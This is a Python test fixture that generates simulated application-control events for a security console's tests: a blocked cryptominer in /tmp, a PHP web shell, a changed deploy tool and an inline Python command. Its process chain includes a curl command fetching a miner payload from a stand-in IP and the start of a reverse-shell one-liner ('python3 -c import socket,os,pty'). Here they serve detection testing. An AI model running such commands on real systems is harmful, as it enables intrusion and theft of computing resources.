"""Software changes for the console's tests: of every kind, on several computers."""

import hashlib
import time

from keibi.contract.events import Actor, Event, EventAction
from keibi.contract.names import ModuleId, Severity, new_id
from keibi.contract.status import Health, ModuleStatus, NotEnforced

CHAIN = [
    {
        "process": "/usr/bin/curl",
        "pid": 4243,
        "user": "www-data",
        "command_line": "curl -o /tmp/.x/kdevtmpfsi http://192.0.2.99/k",
    },
    {"process": "/usr/bin/bash", "pid": 4242, "user": "www-data", "command_line": "bash -c curl …"},
    {"process": "/usr/sbin/apache2", "pid": 911, "user": "root", "command_line": "/usr/sbin/apache2 -k start"},
]


def sha256_of(name):
    return hashlib.sha256(name.encode()).hexdigest()


def software_event(subject, kind="software.appeared", *, ago=0.0, name="", severity=Severity.MEDIUM, **details):
    """Return an event as the application control worker makes it; a detail of None is left out."""
    at = time.time() - ago
    asked = kind in ("software.blocked", "software.would_block", "software.inline_code")
    record = {
        "reason_code": "unrecognised",
        "sha256": sha256_of(name or subject),
        "size": 184_320,
        "file_type": "program",
        "state": None if asked else "unrecognised",
        "brought_by": None if asked else {"user": "www-data", "process": "/usr/bin/curl"},
        "process_chain": CHAIN,
        **details,
    }
    return Event(
        event_id=f"{int(at * 1000):012x}" + new_id()[12:],
        module=ModuleId.APPLICATION_CONTROL,
        kind=kind,
        severity=severity,
        detected_at=at,
        subject=subject,
        entity_type=record["file_type"] or "",
        action=EventAction.BLOCKED if kind == "software.blocked" else EventAction.DETECTED,
        reason="is not recognised",
        message=f"{subject} is not recognised.",
        actor=Actor(process="/usr/bin/bash", pid=4242, parent="/usr/sbin/apache2", user="www-data", uid=33, source="bpf"),
        policy_generation=3,
        details={key: value for key, value in record.items() if value is not None},
    )


def module_status(generation, *, health=Health.ACTIVE, message="", not_enforced=(), **metrics):
    """Return the status of application control as its worker reports it."""
    return ModuleStatus(
        module=ModuleId.APPLICATION_CONTROL,
        health=health,
        message=message,
        policy_generation=generation,
        rule_count=4,
        not_enforced=list(not_enforced),
        metrics={
            "software_count": 48_213.0,
            "unrecognised_count": 12.0,
            "judged_count": 9_120.0,
            "denied_count": 3.0,
            "maintenance_until_at": 0.0,
            "unlocked_until_at": 0.0,
            "last_scan_at": time.time() - 7200,
            "worker_memory_bytes": 41e6,
            **metrics,
        },
    )


NO_GATE = NotEnforced("blocking", "the self-test failed: Operation not permitted", "gate_not_enforcing")


def tell_of_software(computers):
    """Have the computers of the console's tests tell of software; returns the events by a short name."""
    web, second, database, bastion = computers
    events = {
        "miner": software_event(
            "/tmp/.x/kdevtmpfsi", "software.blocked", name="miner", ago=120, severity=Severity.HIGH, repeat_count=7
        ),
        "brought": software_event("/tmp/.x/kdevtmpfsi", name="miner", ago=130),
        "shell": software_event("/var/www/html/up/s.php", "software.would_block", name="shell", file_type="script", ago=300),
        "tool": software_event(
            "/usr/local/bin/deploy-tool",
            "software.changed",
            name="tool",
            ago=900,
            reason_code="changed",
            previous_sha256=sha256_of("old tool"),
            package={"name": "deploy-tool", "version": "2.4.1-1", "origin": "Example"},
            brought_by={"user": "deploy", "process": "/usr/bin/rsync", "package": "deploy-tool"},
        ),
        "inline": software_event(
            "/usr/bin/python3.11",
            "software.inline_code",
            name="python",
            ago=500,
            reason_code="inline_code",
            file_type="interpreter",
            inline="command",
            command_line="python3 -c import socket,os,pty",
        ),
        "odd": software_event("/opt/<b>odd\\x1b[31m</b>/run", name="odd", ago=1500),
    }
    web.send(*events.values())
    second.send(
        software_event("/tmp/.x/kdevtmpfsi", "software.blocked", name="miner", ago=60, repeat_count=3),
        *(software_event(f"/opt/build/{number}/tool-{number}", ago=2000 + number * 30) for number in range(60)),
    )
    database.send(
        software_event(
            "/usr/local/bin/deploy-tool",
            name="tool",
            ago=800,
            package={"name": "deploy-tool", "version": "2.4.1-1", "origin": "Example"},
        )
    )
    bastion.send(
        Event(
            event_id=new_id(),
            module=ModuleId.APPLICATION_CONTROL,
            kind="maintenance.started",
            severity=Severity.MEDIUM,
            detected_at=time.time() - 40,
            message="Maintenance for 60 minutes: what is written is trusted.",
        )
    )
    return events
